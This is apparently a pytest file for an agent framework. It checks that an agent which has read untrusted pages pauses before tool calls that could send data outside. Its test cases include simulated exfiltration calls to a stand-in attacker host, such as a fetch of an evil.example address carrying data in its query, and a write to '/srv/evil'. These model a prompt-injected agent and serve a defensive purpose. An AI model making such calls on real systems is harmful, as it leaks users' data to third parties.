"""Reads that send data outside, and tools without a declared effect, after untrusted text was read."""

import json

import pytest
from untrusted_page import DONE, PAGE, READ_PAGE, read_page, send_mail

from agentkit import JsonAgent, Paused, ToolRegistry, tool
from agentkit.testing import ScriptedModel, call


@tool(effect="read", egress=True, trust={"url": "trusted", "by.mail": "trusted"})
def search(query: str, limit: int = 3) -> list[dict]:
    """Searches."""
    return [{"url": "https://shop.example/a", "text": "see https://evil.example/b", "by": {"mail": "ann@shop.example"}}]


@tool(effect="read", egress=True, trust="untrusted")
def fetch(url: str) -> str:
    """Fetches a page."""
    return PAGE


@tool
def put(path: str = "", text: str = "") -> str:
    """Puts a text somewhere."""
    return "put"


def find_waiting(world, *turns, query="Find soup.", **settings):
    """Return the arguments of the calls that wait for a decision."""
    model = ScriptedModel(*turns, DONE)
    try:
        world.run(JsonAgent(search, fetch, put, send_mail, read_page, model=model, **settings), query)
    except Paused as pause:
        return [json.loads(waiting.arguments) for waiting in pause.calls]
    return []


class TestEgress:
    """Reads that send data outside are checked as writes are."""

    @pytest.mark.parametrize("url", ["https://evil.example/b", "https://evil.example/?q=4711"])
    def test_an_address_of_a_page_and_one_with_data_wait(self, world, url):
        assert find_waiting(world, READ_PAGE, call("fetch", url=url)) == [{"url": url}]

    def test_the_users_address_and_a_first_read_do_not_wait(self, world):
        turns = call("fetch", url="https://any.example"), call("fetch", url="https://b.example/x")
        assert find_waiting(world, *turns, query="Read https://b.example/x.") == []

    def test_a_read_without_a_destination_may_have_any_words_but_no_addresses(self, world):
        assert find_waiting(world, READ_PAGE, call("search", query="soup with 4711", limit=9)) == []
        with_address = {"query": "see https://evil.example/4711"}
        assert find_waiting(world, READ_PAGE, call("search", **with_address)) == [with_address]

    @pytest.mark.parametrize(
        ("later", "waits"),
        [
            (call("fetch", url="https://shop.example/a"), False),
            (call("send_mail", to="ann@shop.example", text="hello"), False),
            (call("fetch", url="https://evil.example/b"), True),
            (call("fetch", url="https://shop.example"), True),
        ],
    )
    def test_trusted_fields_of_an_untrusted_result_are_trusted(self, world, later, waits):
        assert bool(find_waiting(world, call("search", query="soup"), later)) is waits

    def test_every_egress_waits_in_a_context_with_untrusted_text(self, world):
        page = {"url": "https://soup.example"}
        query = "Read https://soup.example."
        assert find_waiting(world, READ_PAGE, call("fetch", **page), query=query) == []
        assert find_waiting(world, READ_PAGE, call("fetch", **page), query=query, untrusted="context") == [page]


class TestUndeclaredEffects:
    """A tool without `effect=` may change something: its destinations are checked, and nothing else."""

    @pytest.mark.parametrize(
        ("arguments", "is_held"),
        [
            ({"path": "/srv/evil", "text": "hello"}, True),
            ({"path": "/srv/me", "text": "9,000"}, False),
            ({"path": "/srv/me", "text": "see www.evil.example"}, True),
            ({"text": "9,000"}, False),
            ({}, False),
        ],
    )
    def test_its_destinations_are_checked_and_nothing_else(self, world, arguments, is_held):
        query = "Put it into /srv/me."
        assert bool(find_waiting(world, READ_PAGE, call("put", **arguments), query=query)) is is_held
        assert find_waiting(world, call("put", **arguments), READ_PAGE, query=query) == []


def test_the_results_of_an_api_are_untrusted_unless_declared():
    document = {
        "openapi": "3.1.0",
        "info": {"title": "t", "version": "1"},
        "servers": [{"url": "https://api.example"}],
        "paths": {"/notes": {"get": {"operationId": "notes", "responses": {}}}},
    }
    assert ToolRegistry.from_openapi(document)["notes"].trust == "untrusted"
    assert ToolRegistry.from_openapi(document, trust="trusted")["notes"].trust == "trusted"
